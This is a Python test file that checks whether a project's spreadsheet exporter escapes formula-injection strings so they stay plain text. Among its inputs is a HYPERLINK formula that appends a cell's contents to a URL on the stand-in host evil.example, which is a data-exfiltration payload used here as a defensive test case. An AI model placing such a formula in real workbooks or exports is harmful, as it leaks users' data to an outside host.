"""Exported workbooks hold text, never formulas (issue #19 item 13: formula injection)."""

from __future__ import annotations

import io

import pytest

from assay.reports.xlsx import _sheet


def test_text_that_looks_like_a_formula_stays_text() -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    rows = [('=HYPERLINK("https://evil.example/?"&A1,"click")', 5),
            ("+1+1", "@SUM(A1:A2)"), ("-2+3", "\t=1"), ("plain", -4)]
    _sheet(book, "T", ("Justification", "Value"), rows)
    out = io.BytesIO()
    book.save(out)
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["T"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert values == ['\'=HYPERLINK("https://evil.example/?"&A1,"click")', 5, "'+1+1",
                      "'@SUM(A1:A2)", "'-2+3", "'\t=1", "plain", -4]
